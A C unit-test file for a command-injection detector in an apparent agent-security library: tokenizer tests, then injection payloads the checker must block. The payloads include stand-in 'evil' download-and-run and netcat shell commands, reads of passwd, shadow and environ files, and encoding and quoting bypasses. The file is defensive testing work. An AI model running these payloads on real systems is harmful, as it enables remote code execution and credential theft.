/* libmoatagent: the POSIX sh tokenizer and the command_injection check —
 * separators, pipes, substitutions, redirections, expansions, globs and
 * brace expansion from an input, in quoted and unquoted places and in
 * argv arrays; the bypass families (URL and double encoding, HTML
 * entities, quoting games, $IFS for spaces, newlines, case); and the
 * inputs that must pass: file names with spaces inside quotes, text full
 * of shell words, text that only breaks the line. */
#include <ctype.h>

#include "agent_test.h"
#include "ma_shell.h"

#define CMDI_BLOCK "{\"interceptors\":{\"command_injection\":{\"mode\":\"block\"}}}"

static const struct moat_policy *pol;

static int group_setup(void **state)
{
	(void)state;
	pol = moat_policy_parse(CMDI_BLOCK, 1, NULL, 0);
	return pol ? 0 : -1;
}

static int group_teardown(void **state)
{
	(void)state;
	moat_policy_release(pol);
	return 0;
}

static struct moat_request *req_with(const char *input)
{
	struct moat_request_info ri = {.method = "GET", .endpoint = "/tools/ping", .policy = pol};
	struct moat_request *r = NULL;

	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	assert_int_equal(moat_request_add_input(r, MOAT_INPUT_QUERY, "host", input, strlen(input)),
	                 0);
	return r;
}

/* The verdict of moat_check_shell for head + input + tail, with input as
 * the request's input (inputs may be given encoded: then enc is what the
 * request holds and input what reaches the line). */
static int shell3(const char *enc, const char *head, const char *input, const char *tail)
{
	char cmd[8192];
	struct moat_request *r = req_with(enc);
	int v;

	snprintf(cmd, sizeof cmd, "%s%s%s", head, input, tail);
	v = moat_check_shell(r, cmd, (size_t)-1);
	if (v == MOAT_BLOCK) {
		const struct moat_event *ev = moat_request_event(r);
		assert_non_null(ev);
		assert_string_equal(ev->interceptor, "command_injection");
		assert_string_equal(ev->action, "blocked");
		assert_string_equal(ev->operation, cmd);
		assert_non_null(ev->rule);
		assert_string_equal(ev->payload, enc);
		assert_non_null(strstr(ev->file, "test_agent_shell.c"));
		assert_string_equal(ev->function, "shell3");
		assert_true(ev->line > 0);
		assert_true(ev->confidence > 0.5 && ev->confidence <= 1);
		assert_non_null(strstr(ev->details_json, "\"parameter\":\"query.host\""));
	}
	moat_request_end(r);
	return v;
}

#define unq(in)  shell3((in), "ping -c 1 ", (in), " -W 2")
#define sq(in)   shell3((in), "grep -i -- '", (in), "' /var/log/app.log")
#define dq(in)   shell3((in), "convert \"", (in), "\" -resize 64x64 /tmp/t.png")
#define tail(in) shell3((in), "cat /srv/files/", (in), "")

/* ---- the tokenizer ---- */

static const char *kinds(const char *s, char *out, size_t cap)
{
	static struct ma_sh_lex lx;
	size_t o = 0;

	ma_sh_lex(s, strlen(s), &lx);
	out[0] = '\0';
	for (int i = 0; i < lx.nel; i++) {
		int n = snprintf(out + o, cap - o, "%s%d:%.*s", o ? "|" : "", lx.el[i].kind,
		                 (int)(lx.el[i].end - lx.el[i].start), s + lx.el[i].start);
		if (n < 0 || (size_t)n >= cap - o)
			break;
		o += (size_t)n;
	}
	return out;
}

static void the_tokenizer_follows_posix_sh(void **state)
{
	char b[512];
	static struct ma_sh_lex lx;

	(void)state;
	assert_string_equal(kinds("a 'b c' \"d $e\" f\\ g", b, sizeof b),
	                    "1:a|1:'b c'|1:\"d $e\"|1:f\\ g");
	assert_string_equal(kinds("a;b&&c||d|e&f", b, sizeof b),
	                    "1:a|2:;|1:b|4:&&|1:c|4:|||1:d|5:||1:e|3:&|1:f");
	assert_string_equal(kinds("a 2>&1 >>x <y <<<z", b, sizeof b),
	                    "1:a|8:2>&|1:1|8:>>|1:x|8:<|1:y|8:<<<|1:z");
	assert_string_equal(kinds("echo $(ls \"a)b\") `id` # c", b, sizeof b),
	                    "1:echo|1:$(ls \"a)b\")|1:`id`|9:# c");
	assert_string_equal(kinds("a#b (c)", b, sizeof b), "1:a#b|6:(|1:c|7:)");
	/* blanks are space and tab: a carriage return is part of a word */
	assert_string_equal(kinds("a\rb \r", b, sizeof b), "1:a\rb|1:\r");
	/* here-documents are data; the line after them is not */
	assert_string_equal(kinds("cat <<EOF\n$(id); x\nEOF\nls", b, sizeof b),
	                    "1:cat|8:<<|1:EOF|2:\n|10:$(id); x\n|1:ls");
	ma_sh_lex("echo 'open", 10, &lx);
	assert_true(lx.unterm);
	assert_false(ma_sh_valid(&lx));
	ma_sh_lex("a | | b", 7, &lx);
	assert_false(ma_sh_valid(&lx));
	ma_sh_lex("f() { id; }; f", 14, &lx);
	assert_true(ma_sh_valid(&lx));
	ma_sh_lex("echo a )", 8, &lx);
	assert_false(ma_sh_valid(&lx));
}

/* Elements with their flags (f) and the marks (m: kind@start) of s (n
 * bytes). */
static const char *kindsf(const char *s, size_t n, char *out, size_t cap)
{
	static struct ma_sh_lex lx;
	size_t o = 0;

	ma_sh_lex(s, n, &lx);
	out[0] = '\0';
	for (int i = 0; i < lx.nel && o < cap; i++)
		o += (size_t)snprintf(out + o, cap - o, "%s%d/%d:%u-%u", o ? "|" : "",
		                      lx.el[i].kind, lx.el[i].flags, lx.el[i].start, lx.el[i].end);
	for (int i = 0; i < lx.nmark && o < cap; i++)
		o += (size_t)snprintf(out + o, cap - o, " m%d@%u", lx.mark[i].kind,
		                      lx.mark[i].start);
	return out;
}

/* A word of plain bytes takes a shorter path through the tokenizer; it
 * must end, and be flagged, where the word rules end and flag it: at a
 * blank, an operator or the line's end, not at <( or >( (a process
 * substitution goes on in the word), NAME= and a here-document's
 * delimiter taking the word's path. */
static void plain_words_end_where_the_word_rules_end_them(void **state)
{
	char b[1024];

	(void)state;
	assert_string_equal(kindsf("ab<(cd) x", 9, b, sizeof b), "1/512:0-7|1/0:8-9 m12@2");
	assert_string_equal(kindsf("ab>(cd)", 7, b, sizeof b), "1/512:0-7 m12@2");
	assert_string_equal(kindsf("ab<cd", 5, b, sizeof b), "1/512:0-2|8/0:2-3|1/2048:3-5");
	assert_string_equal(kindsf("ab>cd ef", 8, b, sizeof b),
	                    "1/512:0-2|8/8:2-3|1/2048:3-5|1/0:6-8");
	assert_string_equal(kindsf("> f g h", 7, b, sizeof b),
	                    "8/8:0-1|1/2560:2-3|1/512:4-5|1/0:6-7");
	assert_string_equal(kindsf("x=1 y z", 7, b, sizeof b), "1/516:0-3|1/512:4-5|1/0:6-7");
	assert_string_equal(kindsf("a b; c", 6, b, sizeof b),
	                    "1/512:0-1|1/0:2-3|2/0:3-4|1/512:5-6");
	assert_string_equal(kindsf("ab\tcd\nef;gh&ij|kl(mn)op", 23, b, sizeof b),
	                    "1/512:0-2|1/0:3-5|2/2:5-6|1/512:6-8|2/0:8-9|1/512:9-11|3/0:11-12|"
	                    "1/512:12-14|5/0:14-15|1/512:15-17|6/0:17-18|1/512:18-20|7/0:20-21|"
	                    "1/512:21-23");
	assert_string_equal(kindsf("a\0b \rc\r", 7, b, sizeof b), "1/512:0-3|1/0:4-7");
	assert_string_equal(kindsf("ab{c,d} e*", 10, b, sizeof b),
	                    "1/512:0-7|1/0:8-10 m15@2 m14@9");
	/* the delimiter of a here-document, plain, with <<- */
	assert_string_equal(kinds("cat <<ab\nx\nab\nls", b, sizeof b),
	                    "1:cat|8:<<|1:ab|2:\n|10:x\n|1:ls");
	assert_string_equal(kinds("cat <<-ab x\n\tx\n\tab\nls", b, sizeof b),
	                    "1:cat|8:<<-|1:ab|1:x|2:\n|10:\tx\n|1:ls");
}

/* Words of plain bytes that a window does not keep (before it, or after
 * it is full while the line is read on for its parse check) pass without
 * being kept one by one: what they leave must be what each of them
 * leaves -- the command's name (the next word after a redirection's
 * target names it) and whether the line parses. */
static void words_a_window_does_not_keep_leave_the_same_state(void **state)
{
	static char line[8192];
	static struct ma_sh_lex lx;
	static const char *const tails[] = {" |", " | x", " ; ;",    " &", " f() { :; }",
	                                    " )", " x",   " <<E\nE", " >", " > y"};
	static const int valid[] = {0, 1, 0, 1, 0, 0, 1, 1, 0, 1};
	size_t o, at;

	(void)state;
	/* before the window: "> f" then 300 words, the window keeps from x=1 */
	o = (size_t)snprintf(line, sizeof line, "> f");
	for (int i = 0; i < 300; i++)
		o += (size_t)snprintf(line + o, sizeof line - o, " g%d", i);
	at = o + 1;
	o += (size_t)snprintf(line + o, sizeof line - o, " x=1 y; z");
	ma_sh_lex_from(line, o, at, &lx);
	assert_int_equal(lx.nel, 4);
	assert_int_equal(lx.el[0].start, at);
	assert_int_equal(lx.el[0].flags, MA_SH_F_ASSIGN); /* g0 named the command */
	assert_int_equal(lx.el[1].flags, 0);
	assert_int_equal(lx.el[3].flags, MA_SH_F_CMDWORD);
	/* the same with no word between the target and the window */
	o = (size_t)snprintf(line, sizeof line, "> f x=1 y; z");
	ma_sh_lex_from(line, o, 4, &lx);
	assert_int_equal(lx.el[0].flags, MA_SH_F_ASSIGN | MA_SH_F_CMDWORD);
	assert_int_equal(lx.el[1].flags, MA_SH_F_CMDWORD);
	/* after a full window: the line's end still decides whether it parses */
	for (size_t t = 0; t < sizeof tails / sizeof tails[0]; t++) {
		o = (size_t)snprintf(line, sizeof line, "echo");
		for (int i = 0; i < 400; i++)
			o += (size_t)snprintf(line + o, sizeof line - o, " w%d", i);
		o += (size_t)snprintf(line + o, sizeof line - o, "%s", tails[t]);
		ma_sh_lex(line, o, &lx);
		assert_false(lx.complete);
		if (ma_sh_valid(&lx) != valid[t])
			fail_msg("\"...%s\": valid %d", tails[t], ma_sh_valid(&lx));
	}
}

/* After a full window the words of plain bytes are passed eight bytes at
 * a time while the eight are letters, digits, + , - . / : and spaces
 * (ma_sh_skip_words8): the parse check counts the words of the command
 * (a name alone before "(" defines a function) as the byte loop does. A
 * line "echo w0 ... w199;" then a random tail
 * "f X ( ) { :; }" parses exactly when the tail alone does ("f ( )" is a
 * function, "f g ( )" is not: the words of f's command are counted), for
 * tails X of such bytes and of others that end the eight-byte runs
 * (tabs, '_', '=', '#', quotes, operators, line breaks). */
static void words_passed_eight_bytes_at_a_time_count_as_lexed(void **state)
{
	static char line[8192], tail[256];
	static struct ma_sh_lex lx, alone;
	static const char runs[] = "abcxyzXYZ0123456789+,-./:";
	static const char other[] = "\t_=#'\"();|<>\n&{}$*";
	unsigned seed = 99;
	size_t o0 = 0;
	int counted[2] = {0, 0};

	(void)state;
	o0 = (size_t)snprintf(line, sizeof line, "echo");
	for (int i = 0; i < 200; i++)
		o0 += (size_t)snprintf(line + o0, sizeof line - o0, " w%d", i);
	o0 += (size_t)snprintf(line + o0, sizeof line - o0, ";");
	for (int round = 0; round < 3000; round++) {
		size_t t = 0, n;
		seed = seed * 1103515245u + 12345u;
		n = (seed >> 16) % 120;
		t += (size_t)snprintf(tail, sizeof tail, "f");
		for (size_t k = 0; k < n; k++) {
			unsigned r;
			seed = seed * 1103515245u + 12345u;
			r = (seed >> 16) % 100;
			if (r < 30 || round % 5 == 1)
				tail[t++] = ' '; /* a fifth: blanks alone, no word */
			else if (r < 97 || round % 4 == 0)
				tail[t++] = runs[r % (sizeof runs - 1)];
			else
				tail[t++] = other[r % (sizeof other - 1)];
		}
		t += (size_t)snprintf(tail + t, sizeof tail - t, " ( ) { :; }");
		memcpy(line + o0, tail, t);
		ma_sh_lex(line, o0 + t, &lx);
		ma_sh_lex(tail, t, &alone);
		assert_false(lx.complete);
		assert_true(alone.complete);
		if (ma_sh_valid(&lx) != ma_sh_valid(&alone))
			fail_msg("\"...;%.*s\": valid %d, alone %d", (int)t, tail, ma_sh_valid(&lx),
			         ma_sh_valid(&alone));
		counted[ma_sh_valid(&alone)]++;
	}
	/* both answers were met: one word (a function) and more */
	assert_true(counted[0] > 100 && counted[1] > 500);
}

/* The lane (words of plain bytes and control operators kept at once)
 * must judge the parse as the run loop's element by element path does:
 * random lines of words, case and esac, operators, parentheses (a
 * function's "name ( )" and a subshell), redirections and line breaks,
 * lexed keeping from their start (the lane) and keeping nothing (lexed
 * before the window: every element through ma_sh_add), give the same
 * answer. Planted faults this catches: a run of words that does not reset
 * the command's word count after an operator, that counts one word for
 * the run, that names no command, that opens a case after a redirection's
 * target, the lane entered after a redirection or after "name (", or not
 * left after "name ("; a "(" after reserved words that open a body
 * ("then (", "{ ! (") taken alike. */
static void the_lane_parses_as_the_run_loop_does(void **state)
{
	static const char *const units[] = {" f",   " x y",  " case", " esac", " in",  " a)",
	                                    " ;;",  " ;",    " &",    " &&",   " |",   " (",
	                                    " )",   " > g",  "\n",    " {",    " }",   " ( )",
	                                    " f (", " 2>&1", " then", " !",    " time"};
	static char line[512];
	static struct ma_sh_lex lx, before;
	unsigned seed = 7;
	int counted[2] = {0, 0};

	(void)state;
	for (int round = 0; round < 20000; round++) {
		size_t o = 0;
		int n;
		seed = seed * 1103515245u + 12345u;
		n = 1 + (int)((seed >> 16) % 12);
		for (int k = 0; k < n; k++) {
			seed = seed * 1103515245u + 12345u;
			o += (size_t)snprintf(
			    line + o, sizeof line - o, "%s",
			    units[(seed >> 16) % (sizeof units / sizeof units[0])]);
		}
		ma_sh_lex_from(line, o, 0, &lx);
		ma_sh_lex_from(line, o, o, &before);
		if (ma_sh_valid(&lx) != ma_sh_valid(&before))
			fail_msg("\"%s\": valid %d kept, %d before the window", line,
			         ma_sh_valid(&lx), ma_sh_valid(&before));
		counted[ma_sh_valid(&lx)]++;
	}
	assert_true(counted[0] > 1000 && counted[1] > 1000);
}

/* The same line with tabs for its blanks: the eight-byte runs take spaces
 * only, so the tabbed line goes through the byte loop; every window
 * (kept from each of 40 places, before and after the words passed in
 * runs, and the next windows from it) keeps the same elements and marks,
 * the same places to go on from and the same states there. */
static void assert_same_window(const struct ma_sh_lex *a, const struct ma_sh_lex *b)
{
	assert_int_equal(a->nel, b->nel);
	assert_int_equal(a->nmark, b->nmark);
	assert_memory_equal(a->el, b->el, sizeof a->el[0] * (size_t)a->nel);
	assert_memory_equal(a->mark, b->mark, sizeof a->mark[0] * (size_t)a->nmark);
	assert_int_equal(a->from, b->from);
	assert_int_equal(a->dropped_at, b->dropped_at);
	assert_int_equal(a->complete, b->complete);
	assert_int_equal(a->valid, b->valid);
	assert_int_equal(a->unterm, b->unterm);
	assert_int_equal(a->has_snap, b->has_snap);
	assert_int_equal(a->has_end, b->has_end);
	if (a->has_snap) {
		assert_int_equal(a->snap_at, b->snap_at);
		assert_int_equal(a->snap_from, b->snap_from);
		assert_int_equal(a->snap_nel, b->snap_nel);
		assert_int_equal(a->snap_nmark, b->snap_nmark);
		assert_memory_equal(&a->snap, &b->snap, offsetof(struct ma_sh_state, here));
	}
	if (a->has_end) {
		assert_int_equal(a->end_at, b->end_at);
		assert_memory_equal(&a->end, &b->end, offsetof(struct ma_sh_state, here));
	}
}

static void windows_of_words_passed_eight_bytes_at_a_time_are_alike(void **state)
{
	static char sp[6000], tb[6000];
	static struct ma_sh_lex a, b;
	static const char *const words[] = {
	    "word", "a",  "-r", "/srv/x.log", "12", "x:y,z", "AbC+1", "x=1", "'q q'", "$v",
	    "*.c",  "#c", ";",  "|",          "(",  ")",     "&&",    "2>",  "f.txt", "\n"};
	unsigned seed = 5;

	(void)state;
	for (int round = 0; round < 60; round++) {
		size_t o = 0;
		/* a third: all kinds alike; the rest: the first seven (bytes
		 * the runs take) nine times in ten */
		int rare = round % 3 == 0 ? 20 : 7;
		while (o < 3000 + (size_t)round * 30) {
			unsigned r, blanks;
			seed = seed * 1103515245u + 12345u;
			r = (seed >> 16) % 1000;
			const char *w = words[r % 100 < 90 ? r % rare : r % 20];
			blanks = 1 + (r / 100) % 3;
			for (unsigned k = 0; k < blanks; k++)
				sp[o++] = ' ';
			memcpy(sp + o, w, strlen(w));
			o += strlen(w);
		}
		for (size_t k = 0; k < o; k++)
			tb[k] = sp[k] == ' ' ? '\t' : sp[k];
		for (int f = 0; f < 40; f++) {
			size_t from = (size_t)f * o / 40;
			ma_sh_lex_from(sp, o, from, &a);
			ma_sh_lex_from(tb, o, from, &b);
			assert_same_window(&a, &b);
			for (int n = 0; n < 3 && ma_sh_lex_next(sp, o, &a); n++) {
				assert_int_equal(ma_sh_lex_next(tb, o, &b), 1);
				assert_same_window(&a, &b);
			}
		}
	}
}

/* The runs count every word they pass (ma_sh_skip_words8, sixteen bytes
 * at a time where the CPU has SSE2, eight after): the parse check's count
 * of the command's words is in the states a window keeps (where the next
 * one goes on from), so a line of one command alone -- words of 1 to 24
 * bytes the runs take, 1 to 3 spaces apart, some with a byte they do not
 * take ('_', '%', '@', '#', '!', '^', '~': plain for the byte loop, a
 * stop for the runs, at any byte of sixteen) -- gives, from each of 50
 * places and in the next windows, the same states as the line with tabs,
 * which the runs do not take: none of its words is missed or counted
 * twice, wherever a run stops. */
static void words_passed_in_runs_are_counted_exactly(void **state)
{
	static char sp[7000], tb[7000];
	static struct ma_sh_lex a, b;
	static const char runs[] = "abcxyzXYZ0123456789+,-./:";
	static const char stops[] = "_%@#!^~";
	unsigned seed = 11;

	(void)state;
	for (int round = 0; round < 40; round++) {
		size_t o = (size_t)snprintf(sp, sizeof sp, "echo");
		while (o < 2500 + (size_t)round * 90) {
			unsigned r, blanks, n;
			seed = seed * 1103515245u + 12345u;
			r = seed >> 16;
			blanks = 1 + r % 3;
			n = 1 + (r / 3) % 24;
			for (unsigned k = 0; k < blanks; k++)
				sp[o++] = ' ';
			for (unsigned k = 0; k < n; k++) {
				seed = seed * 1103515245u + 12345u;
				r = seed >> 16;
				/* not first: a word that starts with '#' is a comment */
				if (k > 0 && r % 100 < (unsigned)(round % 4) * 2)
					sp[o++] = stops[r % (sizeof stops - 1)];
				else
					sp[o++] = runs[r % (sizeof runs - 1)];
			}
		}
		for (size_t k = 0; k < o; k++)
			tb[k] = sp[k] == ' ' ? '\t' : sp[k];
		for (int f = 0; f < 50; f++) {
			size_t from = (size_t)f * o / 50;
			ma_sh_lex_from(sp, o, from, &a);
			ma_sh_lex_from(tb, o, from, &b);
			assert_true(a.has_snap || a.complete);
			assert_same_window(&a, &b);
			for (int n = 0; n < 3 && ma_sh_lex_next(sp, o, &a); n++) {
				assert_int_equal(ma_sh_lex_next(tb, o, &b), 1);
				assert_same_window(&a, &b);
			}
		}
	}
}

/* ma_sh_lex_from_next keeps the next window while the first lexing reads
 * the line on: the window, and the next one when it gives it, are those
 * of ma_sh_lex_from and ma_sh_lex_next (deep_at too), in lines of words,
 * operators, quotes, substitutions, here-documents, redirections first in
 * a command ("; >f a b ( )": the first lexing alone counts the words
 * after a full window as one), lines that stop parsing before or after
 * the next window is full, and nestings deeper than the tokenizer
 * follows. Most give it (the check's lines are long). */
static void the_next_window_kept_by_the_first_lexing_is_the_one_lexed_again(void **state)
{
	static char line[6000];
	static struct ma_sh_lex a, b, an, bn;
	/* tokens of a line that parses, then rarer ones: a command that starts
	 * with a redirection, ones that break the line or nest it deeper than
	 * the tokenizer follows */
	static const char *const toks[] = {
	    "word", "a", "-r", "/srv/x.log", "x=1", "'q q'", "$v", "*.c", "#c\n", "x; w", "x | w",
	    "x && w", "w 2>/dev/null", "\n", "\"$(id)\"", "`x`", "${a:-b}", "x; cat <<E\nbody\nE\n",
	    "{a,b}", "x; ( w )", "a b c d e f g h i j k l m n o p",
	    "x; case a in a) w;; (b) w ;& esac",
	    /* rarer: a redirection first (lexed again alone), breaking */
	    "x; >f a", ")", "'", "| |",
	    "$($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($($(", "\"x",
	    "x; >f aaaa bbbbbbbbbbbbbbbbbbbb ( ) x", "x; >f case a in a) w;; esac"};
	unsigned seed = 7;
	int given = 0;

	(void)state;
	for (int round = 0; round < 300; round++) {
		size_t o = 0, want = 500 + (size_t)(round % 30) * 120;
		o += (size_t)snprintf(line, sizeof line, "echo ");
		while (o < want) {
			const char *t;
			unsigned r;
			seed = seed * 1103515245u + 12345u;
			r = (seed >> 16) % 1000;
			/* one round in three: a breaking token one time in 50 */
			if (round % 3 == 0 && r < 24)
				t = toks[22 + r % 8];
			else
				t = toks[r % 22];
			if (o + strlen(t) + 2 >= sizeof line)
				break;
			memcpy(line + o, t, strlen(t));
			o += strlen(t);
			line[o++] = ' ';
		}
		for (int f = 0; f < 6; f++) {
			size_t from = (size_t)f * o / 12;
			int got;
			ma_sh_lex_from(line, o, from, &a);
			got = ma_sh_lex_from_next(line, o, from, &b, &bn);
			assert_same_window(&a, &b);
			assert_int_equal(a.deep_at, b.deep_at);
			if (!got)
				continue;
			given++;
			an = a;
			assert_int_equal(ma_sh_lex_next(line, o, &an), 1);
			assert_same_window(&an, &bn);
			assert_int_equal(an.deep_at, bn.deep_at);
		}
	}
	assert_true(given > 1000);
	/* a redirection's target first, then words past the full window: not
	 * given (lexed again alone), the window as ma_sh_lex_from's */
	for (int t = 0; t < 2; t++) {
		size_t o = (size_t)snprintf(line, sizeof line, "echo");
		for (int k = 0; k < 140; k++)
			o += (size_t)snprintf(line + o, sizeof line - o, " w%d", k);
		o += (size_t)snprintf(line + o, sizeof line - o, "%s",
		                      t ? "; >f case a in a) w;; esac"
		                        : "; >f aaaa bbbbbbbbbbbbbbbbbbbbbbbb ( ) x");
		ma_sh_lex_from(line, o, 0, &a);
		assert_int_equal(ma_sh_lex_from_next(line, o, 0, &b, &bn), 0);
		assert_same_window(&a, &b);
	}
}

/* ---- attacks ---- */

static void separators_and_pipes_fire(void **state)
{
	(void)state;
	assert_int_equal(unq("127.0.0.1; id"), MOAT_BLOCK);
	assert_int_equal(unq("127.0.0.1 && cat /etc/passwd"), MOAT_BLOCK);
	assert_int_equal(unq("x || wget http://evil/x.sh"), MOAT_BLOCK);
	assert_int_equal(unq("127.0.0.1 | nc evil 4444"), MOAT_BLOCK);
	assert_int_equal(unq("127.0.0.1 & sleep 5 &"), MOAT_BLOCK);
	assert_int_equal(unq("127.0.0.1\nid"), MOAT_BLOCK);
	assert_int_equal(unq("x;(id)"), MOAT_BLOCK);
	/* breaking out of the quotes the application wrote */
	assert_int_equal(sq("'; id; echo '"), MOAT_BLOCK);
	assert_int_equal(sq("x'|id|'"), MOAT_BLOCK);
	assert_int_equal(dq("a.png\"; rm -rf /tmp/x; \""), MOAT_BLOCK);
	assert_int_equal(tail("a.txt;/usr/bin/id"), MOAT_BLOCK);
}

static void substitutions_fire_even_inside_double_quotes(void **state)
{
	(void)state;
	assert_int_equal(unq("$(id)"), MOAT_BLOCK);
	assert_int_equal(unq("`id`"), MOAT_BLOCK);
	assert_int_equal(dq("$(curl evil|sh)"), MOAT_BLOCK);
	assert_int_equal(dq("`whoami`.png"), MOAT_BLOCK);
	assert_int_equal(unq("<(id)"), MOAT_BLOCK);
	/* in single quotes they are text */
	assert_int_equal(sq("$(id) `id`"), MOAT_ALLOW);
	/* a substitution runs even if the line fails afterwards */
	assert_int_equal(shell3("$(id)'", "echo ", "$(id)'", ""), MOAT_BLOCK);
}

static void redirections_expansions_globs_and_braces_fire(void **state)
{
	(void)state;
	assert_int_equal(unq("x > /var/www/html/s.php"), MOAT_BLOCK);
	assert_int_equal(unq("x 2>&1"), MOAT_BLOCK);
	assert_int_equal(unq("x <&3"), MOAT_BLOCK);
	assert_int_equal(tail("x;cat$IFS/etc/passwd"), MOAT_BLOCK);
	assert_int_equal(tail("x;${SHELL}"), MOAT_BLOCK);
	assert_int_equal(shell3("$SHELL", "", "$SHELL", " -c id"), MOAT_BLOCK);
	assert_int_equal(tail("*.*"), MOAT_BLOCK);
#define GLOBS "/\?\?\?/\?\?t /\?\?\?/p\?\?s\?\?" /* cat /etc/passwd */
	assert_int_equal(shell3(GLOBS, "", GLOBS, ""), MOAT_BLOCK);
	assert_int_equal(shell3("{cat,/etc/passwd}", "", "{cat,/etc/passwd}", ""), MOAT_BLOCK);
	/* an option after leaving the quotes */
	assert_int_equal(shell3("x' '--exec=id", "find /srv -name '", "x' '--exec=id", "'"),
	                 MOAT_BLOCK);
}

static void bypass_families_fire(void **state)
{
	(void)state;
	/* URL, double URL and HTML encodings of the input */
	assert_int_equal(shell3("x%3Bid", "ping -c 1 ", "x;id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("x%0aid", "ping -c 1 ", "x\nid", ""), MOAT_BLOCK);
	assert_int_equal(shell3("x%253Bid", "ping -c 1 ", "x;id", ""), MOAT_BLOCK);
	assert_int_equal(shell3("x&#59;id", "ping -c 1 ", "x;id", ""), MOAT_BLOCK);
	/* quoting games inside the command word */
	assert_int_equal(unq("x;i''d"), MOAT_BLOCK);
	assert_int_equal(unq("x;\\i\\d"), MOAT_BLOCK);
	assert_int_equal(unq("x;\"/bin\"/cat /etc/passwd"), MOAT_BLOCK);
	/* tabs for spaces, case of the path */
	assert_int_equal(unq("x\t;\tid"), MOAT_BLOCK);
	assert_int_equal(unq("x;/BIN/id"), MOAT_BLOCK);
}

/* An operator that ends the application's command early: the words the
 * application wrote after the input become a command of their own (the
 * shell's analogue of a comment cutting an SQL statement's tail). */
#define ns(in) shell3((in), "nslookup ", (in), " 8.8.8.8")
static int shc(const char *input);

static void an_operator_alone_cuts_the_application_command(void **state)
{
	(void)state;
	/* nothing but operators and blanks: no data, only syntax */
	assert_int_equal(ns("; "), MOAT_BLOCK);
	assert_int_equal(ns("| "), MOAT_BLOCK);
	assert_int_equal(ns("|| "), MOAT_BLOCK);
	assert_int_equal(ns("&& "), MOAT_BLOCK);
	assert_int_equal(ns("& "), MOAT_BLOCK);
	assert_int_equal(shell3("%0a%0d", "nslookup ", "\n\r", " 8.8.8.8"), MOAT_BLOCK);
	assert_int_equal(shell3("%0a%0a", "nslookup ", "\n\n", " 8.8.8.8"), MOAT_BLOCK);
	/* one byte is never matched: it cannot be told from the application's own */
	assert_int_equal(shell3("%0a", "nslookup ", "\n", " 8.8.8.8"), MOAT_ALLOW);
	/* at the end of the line nothing is cut: a trailing ; or newline is a no-op */
	assert_int_equal(tail("; "), MOAT_ALLOW);
	assert_int_equal(shell3("%0a", "cat /srv/files/", "\n", ""), MOAT_ALLOW);
	/* inside the application's quotes it is data */
	assert_int_equal(sq("; "), MOAT_ALLOW);
	assert_int_equal(dq("| "), MOAT_ALLOW);
}

static void a_command_ended_by_its_own_operator_cuts_the_application_command(void **state)
{
	(void)state;
	/* payloads written for system(input), pasted before the application's words */
	assert_int_equal(ns("nc -lvvp 4445 -e /bin/sh &"), MOAT_BLOCK);
	assert_int_equal(ns("nc -lvvp 4446 -e /bin/sh|"), MOAT_BLOCK);
	assert_int_equal(ns("id;"), MOAT_BLOCK);
	assert_int_equal(ns("/usr/bin/id|"), MOAT_BLOCK);
	assert_int_equal(ns("\\nid;"), MOAT_BLOCK); /* a literal backslash-n: the word nid */
	/* text that ends with an operator: numbers, assignments, capitals */
	assert_int_equal(ns("ECID=15&"), MOAT_ALLOW);
	assert_int_equal(ns("1;1;1;CONTROL;0;0;1;"), MOAT_ALLOW);
	assert_int_equal(ns("XSERVING\"; \";PLATTER\"; \";VINTAGE\";"), MOAT_ALLOW);
	assert_int_equal(ns("12.5 x 12.5&quot;"), MOAT_ALLOW);
	assert_int_equal(ns("/SEARCH_RESULTS.PHP?SEARCH_TYPE=ALL&INCLUDES[0]=TAGS&PAGE=2"),
	                 MOAT_ALLOW);
}

/* The rule of the shell check of head input tail for the input enc, or
 * NULL when it allows it. */
static const char *rule_of(const char *enc, const char *head, const char *input, const char *tail)
{
	static char rule[64];
	char cmd[512];
	struct moat_request *r = req_with(enc);
	const char *out = NULL;

	snprintf(cmd, sizeof cmd, "%s%s%s", head, input, tail);
	if (moat_check_shell(r, cmd, (size_t)-1) == MOAT_BLOCK) {
		const struct moat_event *ev = moat_request_event(r);
		assert_non_null(ev);
		snprintf(rule, sizeof rule, "%s", ev->rule);
		out = rule;
	}
	moat_request_end(r);
	return out;
}

/* The tail rule is looked for only where the application's text follows
 * the operator (ma_sh_judge skips it when a word of the input does): a
 * word of the application's that starts right where the input ends, or
 * after the input's own line break, is its text. */
static void the_tail_rule_is_skipped_only_where_the_input_goes_on(void **state)
{
	const char *rule;

	(void)state;
	/* the application's word starts at the input's end */
	rule = rule_of("id;", "echo ", "id;", "foo");
	assert_non_null(rule);
	assert_string_equal(rule, "cmd.separator");
	rule = rule_of("id|", "echo ", "id|", "foo");
	assert_non_null(rule);
	assert_string_equal(rule, "cmd.pipe");
	/* an element of the input after the operator that is no word: a line
	 * break, then the application's */
	rule = rule_of("id|%0a", "echo ", "id|\n", "foo");
	assert_non_null(rule);
	assert_string_equal(rule, "cmd.pipe");
	rule = rule_of("id;%0d", "echo ", "id;\r", " foo");
	assert_non_null(rule);
	assert_string_equal(rule, "cmd.separator");
	/* the input's own word after the operator: text, the tail rule not met */
	assert_null(rule_of("Hi; there", "echo ", "Hi; there", " foo"));
}

/* Redirections that read. sh opens the target for the application's
 * command's standard input: from a path with a directory ("</etc/passwd")
 * the command reads a file the user chose. "<id" only reads a file named
 * id and runs nothing; an input that begins with it and names a program
 * there has no data of its own, only a command line written for a place
 * where it would run (the evidence "id;" gives). */
static void a_redirection_that_reads_a_path_or_leads_a_command_fires(void **state)
{
	(void)state;
	/* from a path with a directory, anywhere in the input */
	assert_int_equal(unq("x </etc/passwd"), MOAT_BLOCK);
	assert_int_equal(ns("< ../../etc/shadow"), MOAT_BLOCK);
	assert_int_equal(shc("0</proc/self/environ"), MOAT_BLOCK);
	/* the input begins with the redirection, a program's name after it */
	assert_int_equal(ns("<id"), MOAT_BLOCK);
	assert_int_equal(ns("< whoami"), MOAT_BLOCK);
	assert_int_equal(ns("<cat /etc/passwd"), MOAT_BLOCK);
	assert_int_equal(ns("<uname -a;"), MOAT_BLOCK);
	assert_int_equal(tail("<sleep 5"), MOAT_BLOCK);
	assert_int_equal(shc("<nc -lvp 4444"), MOAT_BLOCK);
	/* a CR that ends the name is the rest of a CRLF line break */
	assert_int_equal(shell3("%3Cid%0D", "nslookup ", "<id\r", " 8.8.8.8"), MOAT_BLOCK);
	/* text: a heart, markup (a tag closes at once, an end tag's root
	 * name has no directory), a file read after words of text */
